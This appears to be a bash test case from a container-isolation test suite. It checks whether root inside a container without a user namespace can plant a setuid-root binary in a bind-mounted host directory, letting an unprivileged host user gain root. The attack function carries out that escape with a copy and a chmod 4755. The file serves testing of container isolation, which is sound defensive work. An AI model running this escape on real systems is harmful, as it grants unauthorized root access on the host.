# SPDX-License-Identifier: GPL-2.0-or-later
# shellcheck shell=bash disable=SC2034

WHAT='a setuid program made inside, in a directory of the host'"'"'s that is bound in, gives a user of the host root'"'"'s rights'
OPTIONS_nbox=(--bind="$PREY/shared:/mnt/shared")
OPTIONS_nspawn=("${OPTIONS_nbox[@]}")
OPTIONS_lxc=("lxc.mount.entry = $PREY/shared mnt/shared none bind,create=dir 0 0")
OPTIONS_bare=("${OPTIONS_nbox[@]}")
NEEDS_USERS='without a user namespace root inside is root of all files that it is given'

setup() {
        mkdir -p "$PREY/shared"
        chmod 755 "$PREY"
        chmod 777 "$PREY/shared"
        bring identity
}

attack() {
        busybox cp /escape/identity /mnt/shared/identity
        busybox chmod 4755 /mnt/shared/identity
}

verdict() {
        local uid
        if [ ! -e "$PREY/shared/identity" ]; then
                blocked "not made: $(tail -n 1 "$OUT")"
                return
        fi
        uid=$(as_nobody "$PREY/shared/identity")
        case $uid in
        0) works "user 65534 is root by it" ;;
        '' | *[!0-9]*) fail "it says '$uid', not who it is" ;;
        *) blocked "run by user 65534 it is user $uid" ;;
        esac
}
